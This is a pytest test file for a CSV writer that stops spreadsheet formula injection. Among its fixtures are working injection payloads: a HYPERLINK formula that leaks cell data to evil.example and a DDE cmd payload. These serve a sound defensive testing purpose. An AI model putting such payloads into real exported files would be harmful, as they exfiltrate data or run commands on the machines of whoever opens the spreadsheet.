"""Every CSV Redress writes is safe to open in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from redress.core import csv as safe_csv


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    safe_csv.writer(out).writerow(["Northshire", value])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["Northshire", "'" + value]


@pytest.mark.parametrize("value", ["Northshire Council", "66.7", "-3", "-1.5", "+4", "", "a=b"])
def test_ordinary_text_and_plain_numbers_are_unchanged(value: str) -> None:
    out = io.StringIO()
    safe_csv.dict_writer(out, ["name"]).writerow({"name": value})
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [value]


def test_numbers_and_none_pass_through() -> None:
    assert safe_csv.spreadsheet_safe(-3) == -3
    assert safe_csv.spreadsheet_safe(None) is None
